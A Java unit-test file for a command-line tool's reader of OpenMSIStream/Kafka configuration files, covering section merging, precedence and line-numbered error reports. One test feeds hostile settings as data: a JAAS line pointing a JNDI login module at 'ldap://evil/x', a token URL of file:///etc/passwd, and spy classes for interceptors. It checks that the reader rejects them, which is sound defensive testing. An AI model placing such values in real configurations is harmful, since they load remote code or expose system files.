package dev.waybill.cli.config;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The configuration files of OpenMSIStream, as its programs take them. */
final class IniFileTest {
    @TempDir
    @SuppressWarnings("NullAway.Init")
    Path folder;

    @Test
    void brokerAndRoleBecomeClientPropertiesAndTheRoleWins() throws IOException {
        var configuration = read("producer", """
                # a comment
                [DEFAULT]
                host = kafka.example

                [broker]
                node_id = lab-7
                bootstrap.servers: %(host)s:9093
                  ,other:9094
                SASL.mechanism = PLAIN
                security.protocol = SASL_SSL
                sasl.username = $KEY_ID
                sasl.password = 5%%-${PASS}

                [producer]
                batch.size = 2000000
                linger.ms = 100
                key.serializer = StringSerializer
                security.protocol = sasl_plaintext

                [consumer]
                group.id = create_new
                """, Map.of("KEY_ID", "me"));

        assertThat(configuration.problems()).isEmpty();
        assertThat(configuration.kafka())
                .containsEntry("security.protocol", "SASL_PLAINTEXT")
                .containsEntry("batch.size", "2000000")
                .containsEntry("linger.ms", "100")
                .doesNotContainKeys("node_id", "key.serializer", "group.id");
        assertThat(configuration.kafka().get("sasl.jaas.config"))
                .contains("username=\"me\"", "password=\"5%-${PASS}\"");
        assertThat(configuration.secrets()).anyMatch(secret -> secret.contains("5%-${PASS}"));
    }

    @Test
    void whatCouldLoadCodeIsNotTakenFromAFileThatTravels() throws IOException {
        var configuration = read("consumer", """
                [broker]
                bootstrap.servers = localhost:9092
                session.timeout.ms = 6000
                fetch.max.bytes = many
                interceptor.classes = org.example.Spy
                config.providers = file
                sasl.oauthbearer.token.endpoint.url = file:///etc/passwd
                sasl.jaas.config = com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/x";
                ssl.engine.factory.class = org.example.Spy
                metric.reporters = org.example.Spy
                [consumer]
                partition.assignment.strategy = org.example.Spy
                sasl.client.callback.handler.class = org.example.Spy
                """, Map.of());

        assertThat(configuration.problems())
                .filteredOn(Problem::isError)
                .extracting(Problem::key)
                .containsExactlyInAnyOrder(
                        "kafka.fetch.max.bytes",
                        "kafka.interceptor.classes",
                        "kafka.config.providers",
                        "kafka.sasl.oauthbearer.token.endpoint.url",
                        "kafka.sasl.jaas.config",
                        "kafka.ssl.engine.factory.class",
                        "kafka.metric.reporters",
                        "kafka.partition.assignment.strategy",
                        "kafka.sasl.client.callback.handler.class");
        assertThat(configuration.kafka())
                .containsOnlyKeys("bootstrap.servers", "session.timeout.ms", "auto.offset.reset");
    }

    @Test
    void kafkasOwnSignInIsTaken() throws IOException {
        var configuration = read("consumer", """
                [broker]
                bootstrap.servers = localhost:9092
                sasl.jaas.config = org.apache.kafka.common.security.scram.ScramLoginModule required username="me" password="a b";
                """, Map.of());

        assertThat(configuration.problems()).isEmpty();
        assertThat(configuration.kafka()).containsKey("sasl.jaas.config");
    }

    @Test
    void problemsAreNamedByFileAndLine() throws IOException {
        var configuration = read("producer", """
                [broker]
                bootstrap.servers = localhost:9092
                sasl.username = $NOT_SET
                no value
                linger.ms = 1
                linger.ms = 2
                """, Map.of());

        assertThat(configuration.problems())
                .extracting(problem -> problem.line().replace(folder.toString(), ""))
                .contains(
                        "/test.config:4:1  no value: expected \"key = value\"",
                        "/test.config:6:1  linger.ms: is said twice in its section",
                        "/test.config:3:1  sasl.username: expected an environment variable that is set, got $NOT_SET");
    }

    @Test
    void anEncryptedSetUpIsRefusedRatherThanSentInTheClear() throws IOException {
        var configuration =
                read("producer", "[broker]\nbootstrap.servers = a:1\n[kafkacrypto]\nnode_id = x\n", Map.of());

        assertThat(configuration.problems()).singleElement().satisfies(problem -> {
            assertThat(problem.isError()).isTrue();
            assertThat(problem.line()).contains("[kafkacrypto]: encryption is not supported");
        });
    }

    @Test
    void aNameIsLookedUpInTheFolderUpstreamHasForIt() throws IOException {
        write("[broker]\nbootstrap.servers = there:1\n");

        var configuration = ClientConfiguration.read(
                new ConfigSources(
                        Map.of(),
                        Map.of("OPENMSISTREAM_CONFIG_FILE_DIR", folder.toString()),
                        Optional.of(Path.of("test"))),
                "producer");

        assertThat(configuration.kafka()).containsEntry("bootstrap.servers", "there:1");
    }

    @Test
    void flagsAndVariablesWinOverTheFileAndTomlIsReadToo() throws IOException {
        write("[broker]\nbootstrap.servers = file:1\nlinger.ms = 1\n");
        Path toml = Files.writeString(folder.resolve("x.toml"), "[kafka]\n\"bootstrap.servers\" = \"toml:1\"\n");

        var ini = ClientConfiguration.read(
                new ConfigSources(
                        Map.of("kafka.linger.ms", "7"),
                        Map.of("WAYBILL_KAFKA_BOOTSTRAP_SERVERS", "variable:1"),
                        Optional.of(folder.resolve("test.config"))),
                "producer");
        var other = ClientConfiguration.read(new ConfigSources(Map.of(), Map.of(), Optional.of(toml)), "producer");

        assertThat(ini.kafka()).containsEntry("bootstrap.servers", "variable:1").containsEntry("linger.ms", "7");
        assertThat(other.kafka()).containsEntry("bootstrap.servers", "toml:1");
    }

    private ClientConfiguration read(String role, String text, Map<String, String> environment) throws IOException {
        return ClientConfiguration.read(new ConfigSources(Map.of(), environment, Optional.of(write(text))), role);
    }

    private Path write(String text) throws IOException {
        return Files.writeString(folder.resolve("test.config"), text);
    }
}
